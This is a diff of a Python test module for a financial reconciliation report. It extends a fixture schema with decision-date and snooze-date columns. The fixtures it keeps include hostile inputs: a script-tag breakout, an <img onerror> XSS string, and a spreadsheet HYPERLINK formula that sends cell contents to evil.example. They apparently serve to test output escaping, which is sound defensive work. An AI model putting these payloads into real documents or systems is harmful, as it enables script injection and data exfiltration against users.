@@ -12,13 +12,26 @@ from reconciliation import shapes
 from reconciliation.policy import default_policy
 from reconciliation.position import Position
 from reconciliation.records import RECORDS
-from reconciliation.reports.edition import LIVED, Edition
+from reconciliation.reports.edition import Edition
 from reconciliation.results import Money, Results
 
 AS_OF = date(2026, 6, 10)
 HOSTILE_NAME = "</script><script>document.title='owned'</script>"
 HOSTILE_NARRATIVE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
 HOSTILE_NOTE = "<img src=x onerror=\"document.title='owned'\">"
+
+
+LIVED = {
+    "exception_id": pl.String,
+    **{name: shapes.RAISED[name] for name in ("severity", "code", "family_id", "subject", "amount_pence", "since")},
+    "age_days": pl.Int64,
+    "items": pl.Int64,
+    "evidence": pl.String,
+    "first_seen": pl.Date,
+    **dict.fromkeys(("status", "decision", "decision_note", "decided_by"), pl.String),
+    "decided_on": pl.Date,
+    "snooze_until": pl.Date,
+}
 
 
 def frame(shape: dict, *rows: tuple) -> pl.DataFrame:
@@ -174,7 +187,9 @@ QUARANTINE = pl.DataFrame(
 def _lived() -> pl.DataFrame:
     def row(severity, code, family, subject, pence, since, status="open", items=1, note=None, decision=None):
         age = (AS_OF - since).days
-        life = (date(2026, 6, 1), status, decision, note, "J. Officer" if decision else None)
+        decided = ("J. Officer", date(2026, 6, 9)) if decision else (None, None)
+        snoozed = date(2026, 6, 20) if status == "snoozed" else None
+        life = (date(2026, 6, 1), status, decision, note, *decided, snoozed)
         identity = (f"X-{code}-{subject}", severity, code, family, subject)
         return (*identity, pence, since, age, items, "", *life)
 
